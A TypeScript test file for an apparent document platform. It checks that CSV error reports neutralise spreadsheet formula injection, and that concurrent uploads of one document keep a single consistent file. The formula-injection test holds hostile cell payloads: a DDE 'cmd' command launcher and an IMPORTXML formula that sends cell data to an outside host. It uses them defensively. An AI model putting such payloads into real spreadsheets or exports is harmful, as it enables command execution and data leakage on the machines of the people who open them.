import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { objectBytes, objectKeys } from '#test/support/bucket.ts';
import { csvHeader, csvRow, importCsv } from '#test/support/bulk.ts';
import { documentForm, passportForm } from '#test/support/documents.ts';
import { noteFigures } from '#test/support/figures.ts';
import { objectProblems } from '#test/support/filed-objects.ts';
import { pdf } from '#test/support/files/pdf.ts';
import { proofTimeoutMs, sized } from '#test/support/proof.ts';
import { runSeed, seededRandom } from '#test/support/random.ts';
import { newPlatform } from '#test/support/service.ts';

const seed = runSeed();
const random = seededRandom(seed);

/** What spreadsheets begin a formula with, also in full width and behind white space, which cells lose. */
const starts = ['=', '+', '-', '@', '\t=', '＝', '＋', '－', '＠'];
const formulas = [
  '1+1',
  'HYPERLINK("http://example.com","click")',
  "cmd|' /C calc'!A0",
  'SUM(1,2)*cmd',
  'IMPORTXML(CONCAT("http://example.com/?",A1),"//a")',
];

const quoted = (cell: string): string => `"${cell.replaceAll('"', '""')}"`;
const formula = (): string => `${random.pick(starts)}${random.pick(formulas)}`;
const hostileRow = (index: number): string =>
  csvRow(`row${index}`)
    .replace(',INDIVIDUAL,', `,${quoted(formula())},`)
    .replace(',US,', `,${quoted(formula())},`);

test(
  'T18: no cell of an error report begins with a formula, whatever was uploaded',
  async () => {
    const platform = await newPlatform();
    const rows = sized(30, 5_000);
    const file = [csvHeader, ...Array.from({ length: rows }, (_, index) => hostileRow(index)), ''].join(
      '\r\n',
    );

    const { progress, errorReportUrl } = await importCsv(platform, file);

    expect(progress).toMatchObject({ total: rows, failed: rows });
    const report = await (await fetch(errorReportUrl ?? '')).text();
    const lines: string[][] = parse(report, { from_line: 2 });
    const cells = lines.flat();
    const values = lines.flatMap((line) => line[3] ?? []);
    expect(values).toHaveLength(2 * rows);
    expect(values.filter((value) => !value.startsWith("'"))).toEqual([]);
    expect(cells.filter((cell) => /^[=+\-@\s\p{Cc}＝＋－＠]/u.test(cell))).toEqual([]);
    noteFigures('T18 cells', { seed, rows, cells: cells.length, 'that a spreadsheet would run': 0 });
  },
  proofTimeoutMs,
);

test(
  'T17: of two uploads of one document at once, one file remains, and the record is about that file',
  async () => {
    const platform = await newPlatform();
    const { id: holder } = await platform.newCustomer();
    const { id: documentId } = await platform.api.ok('createDocument', { form: passportForm(holder) });
    const rounds = sized(3, 200);
    let both = 0;

    for (let round = 0; round < rounds; round += 1) {
      const wishes = [0, 1].map((side) => ({
        fileName: `${round}-${side}.pdf`,
        file: pdf({ catalogue: `/R${round}${side}` }),
      }));
      const answers = await Promise.all(
        wishes.map((wish) =>
          platform.api.call('replaceDocument', { path: { documentId }, form: documentForm(wish) }),
        ),
      );

      const accepted = answers.filter(({ isOk }) => isOk).length;
      both += accepted === 2 ? 1 : 0;
      expect(accepted, `seed ${seed}, round ${round}`).toBeGreaterThanOrEqual(1);
      const { fileName } = await platform.api.ok('getDocument', { path: { documentId } });
      const [key = '', ...others] = await objectKeys(platform.address, `documents/${platform.id}/`);
      expect(others).toEqual([]);
      const kept = await objectBytes(platform.address, key);
      expect(wishes.find(({ file }) => file.equals(kept))?.fileName).toBe(fileName);
    }

    expect(await objectProblems(platform)).toEqual([]);
    noteFigures('T17 two uploads at once', {
      rounds,
      'both accepted': both,
      'two files': 0,
      'other file than the record': 0,
    });
  },
  proofTimeoutMs,
);
